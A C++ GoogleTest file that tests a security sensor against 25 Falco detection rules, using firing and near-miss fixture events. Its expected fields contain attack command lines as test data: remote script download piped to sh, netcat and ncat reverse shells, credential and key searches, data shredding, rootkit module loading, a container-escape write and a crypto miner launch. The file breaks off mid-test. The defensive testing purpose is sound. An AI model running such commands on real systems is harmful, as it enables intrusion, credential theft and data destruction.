// Scenario tests for the 25 stable Falco rules (../shared/rules/falco_rules.yaml): every rule
// fires on a realistic event with the expected alert, and a near miss (a benign event that
// differs in the one thing the rule checks) stays silent.
//
// Fixtures: tests/scenario/fixtures/stable_rules.jsonl (docs/replay-format.md). The loader
// rejects unknown keys, so the expectations live here, keyed by each event's evt.num, which
// the fixture sets to <rule index><k>: odd k fires, even k is a near miss.
#include <gtest/gtest.h>

#include <algorithm>
#include <fstream>
#include <iterator>
#include <map>
#include <set>
#include <string>
#include <utility>
#include <vector>

#include <nlohmann/json.hpp>

#include "scenario_suite.h"
#include "sensor/capture/fixture_events.h"
#include "sensor/daemon/output_settings.h"
#include "sensor/output/alert_format.h"
#include "sensor/rules/loader.h"

using namespace sensor;
using nlohmann::json;
using scenario::Fired;
using scenario::kHostname;
using scenario::options;
using scenario::run;

namespace {

const std::string kRulesFile = std::string(SENSOR_SHARED_DIR) + "/rules/falco_rules.yaml";
const std::string kFixtures =
    std::string(SENSOR_SOURCE_DIR) + "/tests/scenario/fixtures/stable_rules.jsonl";

// What the rules file declares for each rule, written out independently of the loader.
struct RuleMeta {
    std::string priority;           // Falco's JSON priority name
    std::string message;            // output text before the first " |"
    std::vector<std::string> tags;  // sorted (Falco emits a std::set)
};

const std::map<std::string, RuleMeta>& stable_rules() {
    static const std::map<std::string, RuleMeta> m = {
        {"Directory traversal monitored file read",
         {"Warning",
          "Read monitored file via directory traversal",
          {"T1555", "container", "filesystem", "host", "maturity_stable",
           "mitre_credential_access"}}},
        {"Read sensitive file trusted after startup",
         {"Warning",
          "Sensitive file opened for reading by trusted program after startup",
          {"T1555", "container", "filesystem", "host", "maturity_stable",
           "mitre_credential_access"}}},
        {"Read sensitive file untrusted",
         {"Warning",
          "Sensitive file opened for reading by non-trusted program",
          {"T1555", "container", "filesystem", "host", "maturity_stable",
           "mitre_credential_access"}}},
        {"Run shell untrusted",
         {"Notice",
          "Shell spawned by untrusted binary",
          {"T1059.004", "container", "host", "maturity_stable", "mitre_execution", "process",
           "shell"}}},
        {"System user interactive",
         {"Informational",
          "System user ran an interactive command",
          {"NIST_800-53_AC-2", "T1059", "container", "host", "maturity_stable", "mitre_execution",
           "users"}}},
        {"Terminal shell in container",
         {"Notice",
          "A shell was spawned in a container with an attached terminal",
          {"T1059", "container", "maturity_stable", "mitre_execution", "shell"}}},
        {"Contact K8S API Server From Container",
         {"Notice",
          "Unexpected connection to K8s API Server from container",
          {"T1565", "container", "k8s", "maturity_stable", "mitre_discovery", "network"}}},
        {"Netcat Remote Code Execution in Container",
         {"Warning",
          "Netcat runs inside container that allows remote code execution",
          {"T1059", "container", "maturity_stable", "mitre_execution", "network", "process"}}},
        {"Search Private Keys or Passwords",
         {"Warning",
          "Grep private keys or passwords activities found",
          {"T1552.001", "container", "filesystem", "host", "maturity_stable",
           "mitre_credential_access", "process"}}},
        {"Clear Log Activities",
         {"Warning",
          "Log files were tampered",
          {"NIST_800-53_AU-10", "T1070", "container", "filesystem", "host", "maturity_stable",
           "mitre_defense_evasion"}}},
        {"Remove Bulk Data from Disk",
         {"Warning",
          "Bulk data has been removed from disk",
          {"T1485", "container", "filesystem", "host", "maturity_stable", "mitre_impact",
           "process"}}},
        {"Create Symlink Over Sensitive Files",
         {"Warning",
          "Symlinks created over sensitive files",
          {"T1555", "container", "filesystem", "host", "maturity_stable",
           "mitre_credential_access"}}},
        {"Create Hardlink Over Sensitive Files",
         {"Warning",
          "Hardlinks created over sensitive files",
          {"T1555", "container", "filesystem", "host", "maturity_stable",
           "mitre_credential_access"}}},
        {"Packet socket created in container",
         {"Notice",
          "Packet socket was created in a container",
          {"T1557.002", "container", "maturity_stable", "mitre_credential_access", "network"}}},
        {"Redirect STDOUT/STDIN to Network Connection in Container",
         {"Notice",
          "Redirect stdout/stdin to network connection",
          {"T1059", "container", "maturity_stable", "mitre_execution", "network", "process"}}},
        {"Linux Kernel Module Injection Detected",
         {"Warning",
          "Linux Kernel Module injection from container",
          {"TA0003", "container", "host", "maturity_stable", "mitre_persistence", "process"}}},
        {"Debugfs Launched in Privileged Container",
         {"Warning",
          "Debugfs launched started in a privileged container",
          {"T1611", "cis", "container", "maturity_stable", "mitre_privilege_escalation",
           "process"}}},
        {"Detect release_agent File Container Escapes",
         {"Critical",
          "Detect an attempt to exploit a container escape using release_agent file",
          {"T1611", "container", "maturity_stable", "mitre_privilege_escalation", "process"}}},
        {"PTRACE attached to process",
         {"Warning",
          "Detected ptrace PTRACE_ATTACH attempt",
          {"T1055.008", "container", "host", "maturity_stable", "mitre_privilege_escalation",
           "process"}}},
        {"PTRACE anti-debug attempt",
         {"Notice",
          "Detected potential PTRACE_TRACEME anti-debug attempt",
          {"T1622", "container", "host", "maturity_stable", "mitre_defense_evasion", "process"}}},
        {"Find AWS Credentials",
         {"Warning",
          "Detected AWS credentials search activity",
          {"T1552", "aws", "container", "host", "maturity_stable", "mitre_credential_access",
           "process"}}},
        {"Execution from /dev/shm",
         {"Warning",
          "File execution detected from /dev/shm",
          {"T1059.004", "container", "host", "maturity_stable", "mitre_execution"}}},
        {"Drop and execute new binary in container",
         {"Critical",
          "Executing binary not part of base image",
          {"PCI_DSS_11.5.1", "TA0003", "container", "maturity_stable", "mitre_persistence",
           "process"}}},
        {"Disallowed SSH Connection Non Standard Port",
         {"Notice",
          "Disallowed SSH Connection",
          {"T1059", "container", "host", "maturity_stable", "mitre_execution", "network",
           "process"}}},
        {"Fileless execution via memfd_create",
         {"Critical",
          "Fileless execution via memfd_create",
          {"T1620", "container", "host", "maturity_stable", "mitre_defense_evasion", "process"}}},
    };
    return m;
}

// Rules that cannot fire on any event the sensor can produce: the rule, a macro its condition
// requires, and that macro's definition in the rules file. The test below checks that the
// reason still holds.
struct Unfireable {
    std::string macro;
    std::string definition;
};
const std::map<std::string, Unfireable>& unfireable_rules() {
    static const std::map<std::string, Unfireable> m = {
        // k8s_api_server is a required conjunct and only tests fd.sip.name, a DNS name; the
        // sensor keeps no DNS cache, so fd.sip.name is always missing.
        {"Contact K8S API Server From Container",
         {"k8s_api_server",
          "- macro: k8s_api_server\n"
          "  condition: (fd.sip.name=\"kubernetes.default.svc.cluster.local\")\n"}},
    };
    return m;
}

std::string read_file(const std::string& path) {
    std::ifstream in(path);
    return std::string((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
}

using Fields = std::vector<std::pair<std::string, json>>;

struct Case {
    uint64_t num;                     // evt.num of the fixture event
    std::string rule;                 // the rule the event exercises
    bool fires;                       // false: a near miss for `rule`
    Fields fields;                    // expected output_fields of `rule`'s alert (when fires)
    std::vector<std::string> also{};  // other rules that rightly fire on the same event
};

// The container suggested-output fields (kSuggestedOutput) for events on the host.
const Fields kHost = {{"container.id", "host"},
                      {"container.name", "host"},
                      {"container.image.repository", nullptr},
                      {"container.image.tag", nullptr},
                      {"k8s.pod.name", nullptr},
                      {"k8s.ns.name", nullptr}};
const Fields kWebCtr = {{"container.id", "3f7a9c1e5b2d"},
                        {"container.name", "k8s_web_web-7d9f8-abcde_shop"},
                        {"container.image.repository", "docker.io/library/nginx"},
                        {"container.image.tag", "1.25.3"},
                        {"k8s.pod.name", "web-7d9f8-abcde"},
                        {"k8s.ns.name", "shop"}};
const Fields kPrivCtr = {{"container.id", "9b1c2d3e4f5a"},
                         {"container.name", "k8s_node-debugger_node-debugger-x1_default"},
                         {"container.image.repository", "docker.io/library/ubuntu"},
                         {"container.image.tag", "22.04"},
                         {"k8s.pod.name", "node-debugger-x1"},
                         {"k8s.ns.name", "default"}};

Fields with(Fields a, const Fields& b) {
    a.insert(a.end(), b.begin(), b.end());
    return a;
}

// The fields every stable rule prints: evt_type user user_uid user_loginuid process
// proc_exepath parent command terminal.
Fields common(const char* type, const char* user, int uid, int loginuid, const char* name,
              const char* exepath, json pname, const char* cmdline, int tty) {
    return {{"evt.type", type},
            {"user.name", user},
            {"user.uid", uid},
            {"user.loginuid", loginuid},
            {"proc.name", name},
            {"proc.exepath", exepath},
            {"proc.pname", std::move(pname)},
            {"proc.cmdline", cmdline},
            {"proc.tty", tty}};
}

const std::vector<Case>& cases() {
    static const std::vector<Case> c = {
        // 1 Directory traversal monitored file read
        {11, "Directory traversal monitored file read", true,
         with(with(common("openat", "www-data", 33, -1, "php-fpm8.2", "/usr/sbin/php-fpm8.2",
                          "php-fpm8.2", "php-fpm8.2", 0),
                   {{"fd.name", "/etc/passwd"},
                    {"fd.nameraw", "/var/www/html/../../../etc/passwd"},
                    {"proc.aname[2]", "systemd"},
                    {"proc.aname[3]", nullptr},
                    {"proc.aname[4]", nullptr}}),
              kHost)},
        {12, "Directory traversal monitored file read", false, {}},
        {13, "Directory traversal monitored file read", true,
         with(common("openat", "www-data", 33, -1, "php-fpm8.2", "/usr/sbin/php-fpm8.2",
                     "php-fpm8.2", "php-fpm8.2", 0),
              {{"fd.name", "/root/.ssh/id_rsa"},
               {"fd.nameraw", "/var/www/html/../../../../root/.ssh/id_rsa"}})},
        {14, "Directory traversal monitored file read", false, {}},

        // 2 Read sensitive file trusted after startup (nginx is not trusted by the other rule)
        {21,
         "Read sensitive file trusted after startup",
         true,
         with(with(common("openat", "www-data", 33, -1, "nginx", "/usr/sbin/nginx", "nginx",
                          "nginx -g daemon on; master_process on;", 0),
                   {{"fd.name", "/etc/shadow"},
                    {"proc.pcmdline", "nginx -g daemon on; master_process on;"},
                    {"proc.aname[2]", "systemd"},
                    {"proc.aname[3]", nullptr},
                    {"proc.aname[4]", nullptr}}),
              kHost),
         {"Read sensitive file untrusted"}},
        {22,
         "Read sensitive file trusted after startup",
         false,
         {},
         {"Read sensitive file untrusted"}},
        {24, "Read sensitive file trusted after startup", false, {}},

        // 3 Read sensitive file untrusted
        {31, "Read sensitive file untrusted", true,
         with(with(common("openat", "root", 0, 1000, "cat", "/usr/bin/cat", "bash",
                          "cat /etc/shadow", 34816),
                   {{"fd.name", "/etc/shadow"},
                    {"proc.aname[2]", "sudo"},
                    {"proc.aname[3]", "bash"},
                    {"proc.aname[4]", "sshd"}}),
              kHost)},
        {32, "Read sensitive file untrusted", false, {}},
        {33, "Read sensitive file untrusted", true,
         with(common("openat", "root", 0, 1000, "vim", "/usr/bin/vim.basic", "bash",
                     "vim /etc/sudoers.d/90-cloud-init-users", 34816),
              {{"fd.name", "/etc/sudoers.d/90-cloud-init-users"}})},
        {34, "Read sensitive file untrusted", false, {}},

        // 4 Run shell untrusted
        {41, "Run shell untrusted", true,
         with(with(common("execve", "www-data", 33, -1, "sh", "/usr/bin/dash", "apache2",
                          "sh -c curl -s http://203.0.113.50/x.sh | sh", 0),
                   {{"proc.pexe", "/usr/sbin/apache2"},
                    {"proc.pexepath", "/usr/sbin/apache2"},
                    {"proc.pcmdline", "apache2 -k start"},
                    {"proc.aname[2]", "apache2"},
                    {"proc.aname[3]", "systemd"},
                    {"proc.aname[4]", nullptr},
                    {"proc.aname[5]", nullptr},
                    {"proc.aname[6]", nullptr},
                    {"proc.aname[7]", nullptr},
                    {"evt.arg.flags", "0"}}),
              kHost)},
        {42, "Run shell untrusted", false, {}},
        {44, "Run shell untrusted", false, {}},

        // 5 System user interactive
        {51, "System user interactive", true,
         with(with(common("execve", "www-data", 33, 33, "id", "/usr/bin/id", "bash", "id", 34816),
                   {{"evt.arg.flags", "0"}}),
              kHost)},
        {52, "System user interactive", false, {}},

        // 6 Terminal shell in container
        {61, "Terminal shell in container", true,
         with(with(common("execve", "root", 0, -1, "sh", "/bin/sh", "runc", "sh", 34816),
                   {{"evt.arg.flags", "EXE_LOWER_LAYER"}}),
              kWebCtr)},
        {62, "Terminal shell in container", false, {}},
        {63, "Terminal shell in container", true,  // no known parent: container_entrypoint
         with(common("execve", "root", 0, -1, "bash", "/usr/bin/bash", nullptr, "bash -l", 34816),
              kWebCtr)},

        // 7 Contact K8S API Server From Container: cannot fire (see unfireable_rules); both the
        // API call and the database connection stay silent with the stable rules.
        {71, "Contact K8S API Server From Container", false, {}},
        {72, "Contact K8S API Server From Container", false, {}},

        // 8 Netcat Remote Code Execution in Container
        {81, "Netcat Remote Code Execution in Container", true,
         with(with(common("execve", "root", 0, -1, "nc", "/usr/bin/nc.traditional", "sh",
                          "nc -e /bin/sh 203.0.113.7 4444", 0),
                   {{"evt.arg.flags", "0"}}),
              kWebCtr)},
        {82, "Netcat Remote Code Execution in Container", false, {}},
        {83, "Netcat Remote Code Execution in Container", true,
         common("execve", "root", 0, -1, "ncat", "/usr/bin/ncat", "sh",
                "ncat --sh-exec bash -i 203.0.113.7 4444", 0)},
        {84, "Netcat Remote Code Execution in Container", false, {}},

        // 9 Search Private Keys or Passwords
        {91, "Search Private Keys or Passwords", true,
         with(with(common("execve", "root", 0, 1000, "find", "/usr/bin/find", "bash",
                          "find / -name id_rsa", 34816),
                   {{"evt.arg.flags", "0"}}),
              kHost)},
        {92, "Search Private Keys or Passwords", false, {}},
        {93, "Search Private Keys or Passwords", true,
         common("execve", "root", 0, 1000, "grep", "/usr/bin/grep", "bash",
                "grep -rl BEGIN RSA PRIVATE KEY /home", 34816)},
        {94, "Search Private Keys or Passwords", false, {}},
        {95, "Search Private Keys or Passwords", true,
         common("execve", "root", 0, 1000, "grep", "/usr/bin/grep", "bash",
                "grep -ril begin openssh private key /home", 34816)},

        // 10 Clear Log Activities
        {101, "Clear Log Activities", true,
         with(
             with(common("openat", "root", 0, 1000, "bash", "/usr/bin/bash", "sudo", "bash", 34816),
                  {{"fd.name", "/var/log/auth.log"}}),
             kHost)},
        {102, "Clear Log Activities", false, {}},
        {103, "Clear Log Activities", true,
         with(common("openat", "root", 0, 1000, "bash", "/usr/bin/bash", "sudo", "bash", 34816),
              {{"fd.name", "/srv/httpd/logs/access_log"}})},

        // 11 Remove Bulk Data from Disk (an execve has no fd: file=<NA>)
        {111, "Remove Bulk Data from Disk", true,
         with(with(common("execve", "root", 0, 1000, "shred", "/usr/bin/shred", "bash",
                          "shred -u -z -n 3 /var/lib/mysql/ibdata1", 34816),
                   {{"fd.name", nullptr}, {"evt.arg.flags", "0"}}),
              kHost)},
        {112, "Remove Bulk Data from Disk", false, {}},

        // 12 Create Symlink Over Sensitive Files
        {121, "Create Symlink Over Sensitive Files", true,
         with(with(common("symlinkat", "alice", 1000, 1000, "ln", "/usr/bin/ln", "bash",
                          "ln -s /etc/shadow /tmp/.s", 34816),
                   {{"evt.arg.target", "/etc/shadow"}, {"evt.arg.linkpath", "/tmp/.s"}}),
              kHost)},
        {122, "Create Symlink Over Sensitive Files", false, {}},
        {123, "Create Symlink Over Sensitive Files", true,
         with(common("symlinkat", "alice", 1000, 1000, "ln", "/usr/bin/ln", "bash",
                     "ln -s /root /tmp/r", 34816),
              {{"evt.arg.target", "/root"}, {"evt.arg.linkpath", "/tmp/r"}})},

        // 13 Create Hardlink Over Sensitive Files
        {131, "Create Hardlink Over Sensitive Files", true,
         with(with(common("linkat", "root", 0, 1000, "ln", "/usr/bin/ln", "bash",
                          "ln /etc/shadow /tmp/.sh", 34816),
                   {{"evt.arg.oldpath", "/etc/shadow"}, {"evt.arg.newpath", "/tmp/.sh"}}),
              kHost)},
        {132, "Create Hardlink Over Sensitive Files", false, {}},

        // 14 Packet socket created in container
        {141, "Packet socket created in container", true,
         with(with(common("socket", "root", 0, -1, "tcpdump", "/usr/bin/tcpdump", "sh",
                          "tcpdump -i eth0 -w /tmp/cap.pcap", 0),
                   {{"evt.args", "fd=3 domain=AF_PACKET type=SOCK_RAW proto=768"},
                    {"fd.lport", nullptr},
                    {"fd.rport", nullptr},
                    {"fd.l4proto", nullptr}}),
              kWebCtr)},
        {142, "Packet socket created in container", false, {}},
        {144, "Packet socket created in container", false, {}},

        // 15 Redirect STDOUT/STDIN to Network Connection in Container
        {151, "Redirect STDOUT/STDIN to Network Connection in Container", true,
         with(with(common("dup2", "root", 0, -1, "bash", "/usr/bin/bash", "sh", "bash -i", 0),
                   {{"fd.sip", "203.0.113.7"},
                    {"fd.name", "10.244.1.23:38512->203.0.113.7:4444"},
                    {"fd.lport", 38512},
                    {"fd.rport", 4444},
                    {"fd.type", "ipv4"},
                    {"fd.l4proto", "tcp"},
                    {"proc.aname[2]", "runc"},
                    {"proc.aname[3]", nullptr},
                    {"proc.aname[4]", nullptr}}),
              kWebCtr)},
        {152, "Redirect STDOUT/STDIN to Network Connection in Container", false, {}},
        {154, "Redirect STDOUT/STDIN to Network Connection in Container", false, {}},

        // 16 Linux Kernel Module Injection Detected
        {161, "Linux Kernel Module Injection Detected", true,
         with(with(common("finit_module", "root", 0, -1, "insmod", "/usr/bin/kmod", "bash",
                          "insmod /tmp/diamorphine.ko", 34817),
                   {{"proc.pexepath", "/usr/bin/bash"},
                    {"proc.aname[2]", "runc"},
                    {"proc.aexepath[2]", "/usr/bin/runc"},
                    {"proc.args", "/tmp/diamorphine.ko"},
                    {"evt.res", "SUCCESS"}}),
              kPrivCtr)},
        {162, "Linux Kernel Module Injection Detected", false, {}},
        {164, "Linux Kernel Module Injection Detected", false, {}},

        // 17 Debugfs Launched in Privileged Container
        {171, "Debugfs Launched in Privileged Container", true,
         with(with(common("execve", "root", 0, -1, "debugfs", "/usr/sbin/debugfs", "bash",
                          "debugfs -w /dev/sda1", 34817),
                   {{"evt.arg.flags", "0"}}),
              kPrivCtr)},
        {172, "Debugfs Launched in Privileged Container", false, {}},

        // 18 Detect release_agent File Container Escapes
        {181, "Detect release_agent File Container Escapes", true,
         with(with(common("openat", "root", 0, -1, "sh", "/usr/bin/dash", "bash",
                          "sh -c echo /var/lib/containerd/x/cmd > /tmp/cgrp/release_agent", 34817),
                   {{"fd.name", "/tmp/cgrp/release_agent"},
                    {"thread.cap_effective",
                     "CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID CAP_KILL CAP_SETGID "
                     "CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_ADMIN CAP_NET_RAW "
                     "CAP_SYS_MODULE CAP_SYS_RAWIO CAP_SYS_CHROOT CAP_SYS_PTRACE CAP_SYS_ADMIN "
                     "CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP"}}),
              kPrivCtr)},
        {182, "Detect release_agent File Container Escapes", false, {}},
        {184, "Detect release_agent File Container Escapes", false, {}},

        // 19 PTRACE attached to process
        {191, "PTRACE attached to process", true,
         with(with(common("ptrace", "root", 0, 1000, "gdb", "/usr/bin/gdb", "bash", "gdb -p 812",
                          34816),
                   {{"proc.pcmdline", "bash"}}),
              kHost)},
        {192, "PTRACE attached to process", false, {}},
        {193, "PTRACE attached to process", true,
         common("ptrace", "root", 0, 1000, "inject", "/tmp/.cache/inject", "bash",
                "inject 812 /tmp/.cache/libx.so", 34816)},

        // 20 PTRACE anti-debug attempt
        {201, "PTRACE anti-debug attempt", true,
         with(with(common("ptrace", "root", 0, 1000, "kdevtmpfsi", "/tmp/kdevtmpfsi", "bash",
                          "kdevtmpfsi", 34816),
                   {{"proc.pcmdline", "bash"}}),
              kHost)},
        {202, "PTRACE anti-debug attempt", false, {}},

        // 21 Find AWS Credentials
        {211, "Find AWS Credentials", true,
         with(with(common("execve", "root", 0, 1000, "grep", "/usr/bin/grep", "bash",
                          "grep -r AWS_SECRET_ACCESS_KEY /home /root", 34816),
                   {{"proc.pcmdline", "bash"},
                    {"proc.cwd", "/root/"},
                    {"group.gid", 0},
                    {"group.name", "root"},
                    {"user.loginname", "alice"},
                    {"evt.arg.flags", "0"}}),
              kHost)},
        {212, "Find AWS Credentials", false, {}},
        {213, "Find AWS Credentials", true,
         common("execve", "root", 0, 1000, "find", "/usr/bin/find", "bash",
                "find / -path */.aws/credentials", 34816)},
        {214, "Find AWS Credentials", false, {}},

        // 22 Execution from /dev/shm
        {221, "Execution from /dev/shm", true,
         with(with(common("execve", "alice", 1000, 1000, "kswapd0", "/dev/shm/.x/kswapd0", "sh",
                          "kswapd0 -o pool.example.net:3333", 34816),
                   {{"evt.res", "SUCCESS"},
                    {"fd.name", nullptr},
                    {"proc.cwd", "/home/alice/"},
                    {"proc.pcmdline", "sh -c /dev/shm/.x/kswapd0 -o pool.example.net:3333"},
                    {"user.loginname", "alice"},
                    {"group.gid", 1000},
                    {"group.name", "alice"},
                    {"evt.arg.flags", "EXE_WRITABLE"}}),
              kHost)},
        {222, "Execution from /dev/shm", false, {}},
        {223, "Execution from /dev/shm", true,
         common("execve", "alice", 1000, 1000, "sh", "/usr/bin/dash", "bash", "sh /dev/shm/run.sh",
                34816)},
        {224, "Execution from /dev/shm", false, {}},
        {225, "Execution from /dev/shm", true,
         with(common("execve", "alice", 1000, 1000, "kswapd0", "/dev/shm/kswapd0", "bash",
                     "kswapd0", 34816),
              {{"proc.cwd", "/dev/shm/"}})},
        {226, "Execution from /dev/shm", false, {}},

        // 23 Drop and execute new binary in container
        {231, "Drop and execute new binary in container", true,
         with(with(common("execve", "root", 0, -1, "xmrig", "/tmp/xmrig", "sh",
                          "xmrig --donate-level 1 -o pool.example.net:443", 0),
                   {{"proc.exe", "./xmrig"},
                    {"proc.sname", "sh"},
                    {"proc.aname[2]", "runc"},
                    {"proc.exe_ino.ctime", 1718000201000000000ULL},
                    {"proc.exe_ino.mtime", 1718000200000000000ULL},
                    {"proc.exe_ino.ctime_duration_proc_start", 30000000000ULL},
                    {"proc.cwd", "/tmp/"},
                    {"container.start_ts", 1717996400000000000ULL},
                    {"evt.arg.flags", "EXE_WRITABLE|EXE_UPPER_LAYER"}}),
              kWebCtr)},
        {232, "Drop and execute new binary in container", false, {}},

        // 24 Disallowed SSH Connection Non Standard Port
        {241, "Disallowed SSH Connection Non Standard Port", true,
         with(with(common("connect", "root", 0, 1000, "ssh", "/usr/bin/ssh", "bash",
                          "ssh -p 443 -R 9000:localhost:22 tunnel@198.51.100.23", 34816),
                   {{"fd.name", "10.0.0.5:53120->198.51.100.23:443"},
                    {"fd.lport", 53120},
                    {"fd.rport", 443},
                    {"fd.type", "ipv4"},
                    {"fd.l4proto", "tcp"}}),
              kHost)},
        {242, "Disallowed SSH Connection Non Standard Port", false, {}},
        {243, "Disallowed SSH Connection Non Standard Port", true,
         with(common("connect", "root", 0, 1000, "ssh", "/usr/bin/ssh", "bash",
                     "ssh -o ConnectTimeout=5 -p 8080 tunnel@198.51.100.23", 34816),
              {{"fd.name", "10.0.0.5:53126->198.51.100.23:8080"}, {"fd.rport", 8080}})},
        {244, "Disallowed SSH Connection Non Standard Port", false, {}},
        {246, "Disallowed SSH Connection Non Standard Port", false, {}},

        // 25 Fileless execution via memfd_create
        {251, "Fileless execution via memfd_create", true,
         with(with(common("execveat", "alice", 1000, 1000, "3", "/memfd:x (deleted)", "python3",
                          "3", 34816),
                   {{"container.start_ts", nullptr},
                    {"proc.cwd", "/home/alice/"},
                    {"evt.res", "SUCCESS"},
                    {"proc.sname", "bash"},
                    {"proc.aname[2]", "bash"},
                    {"evt.arg.flags", "EXE_WRITABLE|EXE_FROM_MEMFD"}}),
              kHost)},
        {252, "Fileless execution via memfd_create", false, {}},
    };
    return c;
}

class StableRules : public scenario::Suite<StableRules> {
  protected:
    static void SetUpTestSuite() { load({kRulesFile}, kFixtures); }
};

TEST_F(StableRules, RulesFileAndFixturesLoad) {
    ASSERT_TRUE(all_->ok);
    ASSERT_TRUE(first_->ok);
    EXPECT_EQ(all_->rule_count, 25u);
    std::set<std::string> loaded;
    for (const auto& r : all_->ruleset->rules) {
        EXPECT_TRUE(r.enabled) << r.name;
        loaded.insert(r.name);
    }
    std::set<std::string> declared;
    for (const auto& [name, meta] : stable_rules()) declared.insert(name);
    EXPECT_EQ(loaded, declared);
    EXPECT_FALSE(fixtures_->events.empty());
}

// Each fixture event has exactly one expectation, and vice versa.
TEST_F(StableRules, EveryFixtureLineHasAnExpectation) {
    std::set<uint64_t> expected, present;
    for (const auto& c : cases()) {
        EXPECT_TRUE(expected.insert(c.num).second) << "duplicate case " << c.num;
        EXPECT_TRUE(stable_rules().count(c.rule)) << c.num << ": unknown rule " << c.rule;
    }
    for (const auto& ev : fixtures_->events) {
        EXPECT_TRUE(present.insert(ev.num).second) << "duplicate evt.num " << ev.num;
        EXPECT_NE(ev.num, 0u) << "evt.num 0 would satisfy never_true";
    }
    EXPECT_EQ(expected, present);
}

// With rule_matching: all, each event fires exactly the expected rules: the rule under test
// (unless a near miss) plus any other rule that rightly matches the same event.
TEST_F(StableRules, EachEventFiresExactlyTheExpectedRules) {
    for (const auto& c : cases()) {
        SCOPED_TRACE("evt.num " + std::to_string(c.num) + " (" + c.rule + ")");
        const fields::Event* ev = event(c.num);
        ASSERT_NE(ev, nullptr);
        std::set<std::string> want(c.also.begin(), c.also.end());
        if (c.fires) want.insert(c.rule);
        std::set<std::string> got;
        for (const auto& f : run(*all_, *ev)) got.insert(f.rule);
        EXPECT_EQ(got, want);
    }
}

// The alert JSON of each firing event: keys, rule, priority, tags, source, hostname, time,
// the output line and the expected output_fields values.
TEST_F(StableRules, FiringAlertsCarryTheExpectedJson) {
    for (const auto& c : cases()) {
        if (!c.fires) continue;
        SCOPED_TRACE("evt.num " + std::to_string(c.num) + " (" + c.rule + ")");
        const fields::Event* ev = event(c.num);
        ASSERT_NE(ev, nullptr);
        const json* alert = nullptr;
        auto fired = run(*all_, *ev);
        for (const auto& f : fired)
            if (f.rule == c.rule) alert = &f.alert;
        ASSERT_NE(alert, nullptr) << "rule did not fire";
        const RuleMeta& meta = stable_rules().at(c.rule);
        const json& a = *alert;

        std::vector<std::string> keys;
        for (auto it = a.begin(); it != a.end(); ++it) keys.push_back(it.key());
        EXPECT_EQ(keys, (std::vector<std::string>{"hostname", "output", "output_fields", "priority",
                                                  "rule", "source", "tags", "time", "uuid"}));
        EXPECT_EQ(a["hostname"], kHostname);
        EXPECT_EQ(a["rule"], c.rule);
        EXPECT_EQ(a["priority"], meta.priority);
        EXPECT_EQ(a["source"], "syscall");
        EXPECT_EQ(a["tags"].get<std::vector<std::string>>(), meta.tags);
        // ts = 1718000000 s + num s (2024-06-10T06:13:20Z + num s).
        EXPECT_EQ(ev->ts, 1718000000000000000ULL + c.num * 1000000000ULL);
        EXPECT_EQ(a["time"], output::format_utc_z(ev->ts));
        EXPECT_EQ(a["output_fields"]["evt.time"], ev->ts);

        const std::string out = a["output"].get<std::string>();
        const std::string head =
            output::format_local_time(ev->ts) + ": " + meta.priority + " " + meta.message + " | ";
        EXPECT_EQ(out.substr(0, head.size()), head);
        const json& of = a["output_fields"];
        const std::string cid = of.value("container.id", std::string("?"));
        EXPECT_NE(out.find(" container_id=" + cid + " container_name="), std::string::npos) << out;

        for (const auto& [key, want] : c.fields) {
            ASSERT_TRUE(of.contains(key)) << "output_fields lacks " << key;
            EXPECT_EQ(of[key], want) << key;
        }
    }
}

// The time key of the first event, written out.
TEST_F(StableRules, AlertTimeIsUtcWithNanoseconds) {
    const fields::Event* ev = event(11);
    ASSERT_NE(ev, nullptr);
    auto fired = run(*all_, *ev);
    ASSERT_EQ(fired.size(), 1u);
    EXPECT_EQ(fired[0].alert["time"], "2024-06-10T06:13:31.000000000Z");
}

// With the default rule_matching: first, only the earliest matching rule reports: the nginx
// read of /etc/shadow is reported as "trusted after startup", defined before "untrusted".
TEST_F(StableRules, FirstMatchReportsTheEarliestRule) {
    for (const auto& c : cases()) {
        SCOPED_TRACE("evt.num " + std::to_string(c.num));
        const fields::Event* ev = event(c.num);
        ASSERT_NE(ev, nullptr);
        auto all = run(*all_, *ev);
        auto first = run(*first_, *ev);
        if (all.empty()) {
            EXPECT_TRUE(first.empty());
            continue;
        }
        ASSERT_EQ(first.size(), 1u);
        EXPECT_EQ(first[0].rule, all[0].rule);
        // The same alert apart from its uuid, which is new for every alert.
        auto a = first[0].alert, b = all[0].alert;
        EXPECT_NE(a.value("uuid", ""), b.value("uuid", ""));
        a.erase("uuid");
        b.erase("uuid");
        EXPECT_EQ(a.dump(), b.dump());
    }
    auto first = run(*first_, *event(21));
    ASSERT_EQ(first.size(), 1u);
    EXPECT_EQ(first[0].rule, "Read sensitive file trusted after startup");
}

// Coverage cannot silently shrink: every stable rule has a firing event and a near miss,
// except the rules documented as unable to fire, whose reason must still hold.
TEST_F(StableRules, EveryStableRuleIsCovered) {
    std::map<std::string, int> fires, misses;
    for (const auto& c : cases()) (c.fires ? fires : misses)[c.rule]++;
    for (const auto& r : all_->ruleset->rules) {
        SCOPED_TRACE(r.name);
        EXPECT_GE(misses[r.name], 1) << "no near-miss fixture";
        auto it = unfireable_rules().find(r.name);
        if (it == unfireable_rules().end()) {
            EXPECT_GE(fires[r.name], 1) << "no firing fixture";
        } else {
            EXPECT_EQ(fires[r.name], 0);
            EXPECT_NE(r.condition.find(" and " + it->second.macro + " and "), std::string::npos)
                << "the condition no longer requires " << it->second.macro << ": " << r.condition;
            EXPECT_NE(read_file(kRulesFile).find(it->second.definition), std::string::npos)
                << it->second.macro << " changed";
        }
    }
    size_t covered = 0;
    for (const auto& [name, meta] : stable_rules())
        if (fires[name] > 0) ++covered;
    EXPECT_EQ(covered + unfireable_rules().size(), 25u);
}

// Contact K8S API Server From Container: the stable macro needs fd.sip.name, which the sensor
// never has. A deployment that overrides k8s_api_server with the API server's service address
// (a documented tuning pattern) gets the rule working on the same fixture events.
TEST_F(StableRules, K8sApiServerRuleFiresWithAddressBasedMacro) {
    const std::string override_yaml =
        "- macro: k8s_api_server\n"
        "  condition: (fd.sip=\"10.96.0.1\" and fd.sport=443)\n"
        "  override:\n"
        "    condition: replace\n";
    rules::LoadOptions o = options(true);
    auto r = rules::load_rules_contents(
        {{"falco_rules.yaml", read_file(kRulesFile)}, {"k8s_api_override.yaml", override_yaml}}, o);
    ASSERT_TRUE(r.ok);
